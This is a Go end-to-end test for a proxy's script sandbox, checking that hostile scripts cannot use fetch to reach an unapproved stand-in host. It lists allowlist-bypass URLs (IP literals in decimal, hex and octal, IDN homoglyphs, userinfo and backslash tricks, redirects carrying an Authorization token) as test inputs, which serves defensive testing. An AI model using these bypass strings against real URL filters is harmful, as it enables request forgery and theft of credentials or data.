package e2e

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// Hostile-suite additions for rmx.fetch and network:observe (issue 5): remixlets holding
// fetch:api.shop.test try to make a request reach the witness (witness.test, and the IDN
// look-alike of the API host) through rmx.fetch, each stored and activated directly, on
// https://shop.test/hostile in real Chromium. The witness must receive nothing, and each
// remixlet's log must say what was refused and why.

// hostileFetchCase is one hostile rmx.fetch remixlet; it runs inside hostileWrapper.
type hostileFetchCase struct {
	name    string
	perms   []string
	body    string
	wantLog string // regexp the remixlet's log must match
}

const idnLookalike = "xn--pi-6kc.shop.test" // аpi.shop.test, with a Cyrillic а

var hostileFetchCases = []hostileFetchCase{
	{name: "unapproved host", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://witness.test/unapproved');`,
		wantLog: `refused: rmx\.fetch: witness\.test is not an approved host`},
	{name: "approved host redirects to the witness", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://api.shop.test/redirect?to=https://witness.test/redirected');`,
		wantLog: `refused: rmx\.fetch: redirect from api\.shop\.test refused: witness\.test is not an approved host`},
	{name: "Authorization across a redirect to the witness", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://api.shop.test/redirect?to=https://witness.test/auth', { headers: { Authorization: 'Bearer hunter2' } });`,
		wantLog: `refused: rmx\.fetch: redirect from api\.shop\.test refused: witness\.test is not an approved host`},
	{name: "Authorization dropped across origins", perms: []string{"fetch:api.shop.test", "fetch:api2.shop.test", "storage"},
		body: `const r = await rmx.fetch('https://api.shop.test/redirect?to=https://api2.shop.test/echo', { as: 'json', headers: { Authorization: 'Bearer hunter2' } });
await rmx.storage.set('read', r.json.host + ' auth=' + r.json.authorization);
rmx.log('cross-origin redirect answered');`,
		wantLog: `cross-origin redirect answered`},
	{name: "IP literal", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://127.0.0.1/ip');`,
		wantLog: `refused: rmx\.fetch: 127\.0\.0\.1 is not an approved host`},
	// Addresses are read as the browser reads them (internal/weburl): each spelling names the
	// host a browser would go to, and that host is what is approved or refused.
	{name: "127.0.0.1 as a decimal number", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('http://2130706433/decimal');`,
		wantLog: `refused: rmx\.fetch: 127\.0\.0\.1 is not an approved host`},
	{name: "127.0.0.1 in hex and octal", perms: []string{"fetch:api.shop.test"},
		body:    `try { await rmx.fetch('https://0x7f.0.0.1/hex'); } finally { await rmx.fetch('https://0177.0.0.01/octal'); }`,
		wantLog: `(?s)127\.0\.0\.1 is not an approved host.*127\.0\.0\.1 is not an approved host`},
	{name: "fullwidth letters", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://\uff57itness.test/fullwidth');`,
		wantLog: `refused: rmx\.fetch: witness\.test is not an approved host`},
	{name: "a backslash before the approved host", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://witness.test\\@api.shop.test/backslash');`,
		wantLog: `refused: rmx\.fetch: witness\.test is not an approved host`},
	{name: "another host behind an ideographic full stop", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://api.shop.test\u3002witness.test/stop');`,
		wantLog: `refused: rmx\.fetch: api\.shop\.test\.witness\.test is not an approved host`},
	{name: "trailing dot", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://witness.test./dot');`,
		wantLog: `refused: rmx\.fetch: witness\.test is not an approved host`},
	{name: "uppercase", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://WITNESS.TEST/upper');`,
		wantLog: `refused: rmx\.fetch: witness\.test is not an approved host`},
	{name: "IDN look-alike of the approved host", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://\u0430pi.shop.test/idn');`,
		wantLog: `refused: rmx\.fetch: xn--pi-6kc\.shop\.test is not an approved host`},
	{name: "user name before the approved host", perms: []string{"fetch:api.shop.test"},
		body:    `await rmx.fetch('https://api.shop.test@witness.test/userinfo');`,
		wantLog: `refused: rmx\.fetch: addresses with a user name or password are refused`},
	{name: "network.responses for a host not approved", perms: []string{"network:observe:api.shop.test"},
		body:    `await rmx.network.responses({ host: 'witness.test' });`,
		wantLog: `refused: rmx\.network\.responses: rmx\.network\.responses for witness\.test needs the network:observe:witness\.test permission`},
	{name: "network.onResponse for a host not approved", perms: []string{"network:observe:api.shop.test"},
		body:    `await rmx.network.onResponse({ host: 'witness.test' }, (r) => rmx.log(r.url));`,
		wantLog: `refused: rmx\.network\.onResponse: rmx\.network\.onResponse for witness\.test needs the network:observe:witness\.test permission`},
	{name: "fetch with only network:observe", perms: []string{"network:observe:witness.test"},
		body:    `await rmx.fetch('https://witness.test/observe-only');`,
		wantLog: `refused: rmx\.fetch: rmx\.fetch needs a fetch:HOST permission`},
}

var hostileFetchCaseCount = len(hostileFetchCases)

// startHostileFetch is the shop, its APIs and the witness (also under the IDN look-alike name),
// behind the proxy, with a browser tab.
func startHostileFetch(t *testing.T) (*hostileWorld, *shopAPI, *shopAPI) {
	wit := &witness{}
	api, api2 := &shopAPI{}, &shopAPI{}
	h := startHostileWorld(t, wit, map[string]http.Handler{
		"shop.test":                  shopSite(),
		"api.shop.test":              api,
		"api2.shop.test":             api2,
		"witness.test":               wit,
		idnLookalike:                 wit,
		"api.shop.test.witness.test": wit, // the approved host, then a full stop, then the witness
	})
	return h, api, api2
}

func hostileFetchFiles(name string, perms []string, script string) store.Files {
	return store.Files{
		sandbox.ManifestFile: []byte(fetchManifest(name, "https://shop.test/hostile*", perms...)),
		sandbox.ScriptFile:   []byte(script),
	}
}

func TestHostileRemixletFetchesCannotReachTheWitness(t *testing.T) {
	h, api, api2 := startHostileFetch(t)
	var rxs []store.Remixlet
	for i, c := range hostileFetchCases {
		name := fmt.Sprintf("hostile fetch %02d %s", i, c.name)
		rxs = append(rxs, saveUnchecked(t, h.st, name, hostileFetchFiles(name, c.perms, fmt.Sprintf(hostileWrapper, i, c.body))))
	}
	tab := h.tab
	// The person is signed in to the shop: there is a cookie to steal.
	tab.Navigate("https://shop.test/")
	tab.Navigate("https://shop.test/hostile")
	tab.WaitConnected()
	allDone := fmt.Sprintf(`[...document.querySelectorAll('p.st')].filter((e) => e.textContent === 'done').length === %d`, len(hostileFetchCases))
	if err := waitTrue(tab, 20*time.Second, allDone); err != nil {
		var missing []string
		for i, c := range hostileFetchCases {
			if e2etest.Eval[string](tab, fmt.Sprintf(`document.getElementById('s-%d').textContent`, i)) != "done" {
				missing = append(missing, fmt.Sprintf("%s:\n%s", c.name, h.diagnose(rxs[i])))
			}
		}
		t.Fatalf("not every hostile remixlet finished: %v\n%s", err, strings.Join(missing, "\n"))
	}
	for i, c := range hostileFetchCases {
		if log, ok := h.waitLog(rxs[i], regexp.MustCompile(c.wantLog), 5*time.Second); !ok {
			t.Errorf("%s: the log does not match %q:\n%s", c.name, c.wantLog, log)
		}
	}
	h.checkNoWitness("after the hostile fetches")
	if n := h.sites.HostRequests(idnLookalike); n != 0 {
		t.Errorf("the IDN look-alike host received %d requests", n)
	}

	// The cross-origin redirect reached the second approved API without the Authorization header
	// (the first API, same origin as the request, did get it).
	for i, c := range hostileFetchCases {
		if c.name != "Authorization dropped across origins" {
			continue
		}
		v, ok := h.storageValue(rxs[i], "read")
		if !ok || v != `"api2.shop.test auth="` {
			t.Errorf("after the cross-origin redirect the remixlet read %s (stored %v); want no Authorization", v, ok)
		}
	}
	for _, seen := range api2.requests() {
		if !strings.Contains(seen, `authorization=""`) {
			t.Errorf("api2.shop.test received an Authorization header: %s", seen)
		}
	}
	if len(api2.requests()) != 1 {
		t.Errorf("api2.shop.test received %q; want the one redirected request", api2.requests())
	}
	if seen := api.requests(); len(seen) == 0 {
		t.Errorf("api.shop.test received nothing: the redirect cases proved nothing")
	}
	h.checkWitnessReachable()
}

// A paused remixlet's rmx.fetch is refused even to a host it holds fetch: for (here the
// witness itself, so only the pause stands between the remixlet and the witness).
func TestHostilePausedRemixletCannotFetch(t *testing.T) {
	h, _, _ := startHostileFetch(t)
	rx := saveUnchecked(t, h.st, "paused fetcher", hostileFetchFiles("paused fetcher", []string{"fetch:witness.test"},
		`await dom.setText(await dom.query('#s-0'), 'started');
await new Promise((res) => setTimeout(res, 1500));
await rmx.fetch('https://witness.test/paused');
`))
	tab := h.tab
	tab.Navigate("https://shop.test/hostile")
	tab.WaitConnected()
	if err := waitTrue(tab, 15*time.Second, `document.getElementById('s-0').textContent === 'started'`); err != nil {
		t.Fatalf("the remixlet did not start: %v\n%s", err, h.diagnose(rx))
	}
	if err := h.st.SetEnabled(context.Background(), rx.ID, false); err != nil {
		t.Fatal(err)
	}
	if log, ok := h.waitLog(rx, regexp.MustCompile(`refused: .*the remixlet is paused`), 10*time.Second); !ok {
		t.Errorf("the log does not say the remixlet is paused:\n%s", log)
	}
	time.Sleep(2 * time.Second) // past the remixlet's timer
	h.checkNoWitness("after the paused remixlet's fetch")
	h.checkWitnessReachable()
}
